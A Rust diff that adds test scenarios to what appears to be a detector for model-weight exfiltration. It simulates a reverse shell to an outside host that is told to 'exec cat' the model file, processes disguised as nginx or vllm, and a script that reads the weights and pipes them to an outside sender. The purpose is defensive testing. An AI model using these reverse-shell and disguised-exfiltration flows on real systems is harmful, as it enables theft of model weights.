@@ -1,0 +1,66 @@
+//! Processes that are not what they are called, and those that should be trusted.
+
+use super::{Outcome, outside, theft};
+use std::time::SystemTime;
+use tests::board::{Expected, MODEL, Played, Scenario, Stage};
+
+pub const SCENARIOS: &[Scenario] = &[
+    Scenario { name: "reverse_shell", about: "a shell on a socket, cat", play: reverse_shell },
+    Scenario {
+        name: "double_fork_false_name",
+        about: "daemon called nginx",
+        play: |stage| theft(stage, &["none", "--disguise", "nginx"]),
+    },
+    Scenario { name: "true_loader_itself", about: "the loader reads and sends (as by LD_PRELOAD)", play: loader },
+    Scenario { name: "named_like_a_loader", about: "a thief called vllm", play: named },
+    Scenario { name: "sender_execs_after_reading", about: "reads to memory file, exec, sends", play: exec },
+];
+
+fn reverse_shell(stage: &mut Stage) -> Outcome {
+    // The shell's standard input and output are the connection; what it is told becomes the reader and the sender.
+    let listener = stage.listen(Stage::OUTSIDE.into(), 4444)?;
+    let to = format!("{}:4444", Stage::OUTSIDE);
+    let shell = stage.begin(&["reverse-shell", "--to", &to])?;
+    let pid = shell.pid();
+    let began = SystemTime::now();
+    let came = listener.command(format!("exec cat {MODEL}\n").as_bytes())?;
+    shell.output()?;
+    let expected = Expected {
+        inode: stage.inode.clone(),
+        readers: vec![pid],
+        senders: vec![pid],
+        destinations: vec![to.parse()?],
+        bytes: vec![("weir.exfil.bytes", came.0), ("weir.flow.bytes", came.0)],
+        began,
+        containers: vec![stage.container.id.clone()],
+        verbatim: true,
+    };
+    stage.check(&expected, &[], came)?;
+    Ok(Played::Attack(expected))
+}
+
+fn loader(stage: &mut Stage) -> Outcome {
+    as_program(stage, "/opt/venv/bin/python3.11")
+}
+
+fn named(stage: &mut Stage) -> Outcome {
+    as_program(stage, "/opt/bin/vllm")
+}
+
+fn as_program(stage: &mut Stage, program: &str) -> Outcome {
+    let program = stage.actor_called(program)?;
+    let world = stage.world(&[])?;
+    // The loader loads, as it does every day, and later sends.
+    stage.act_as(program, &["read", MODEL])?;
+    let lines = stage.act_as(program, &["theft", "none", "--read", MODEL, "--to", &outside()])?;
+    Ok(Played::Attack(stage.truth_of(&lines, None, world, true)?))
+}
+
+fn exec(stage: &mut Stage) -> Outcome {
+    let world = stage.world(&[])?;
+    // The shell opens the file and becomes the sender, which never opens anything.
+    let script =
+        format!("exec 3< {MODEL}; $A become --role reader --file {MODEL} -- $A theft stdin --to {} <&3", outside());
+    let lines = stage.script(&script)?;
+    Ok(Played::Attack(stage.truth_of(&lines, None, world, true)?))
+}
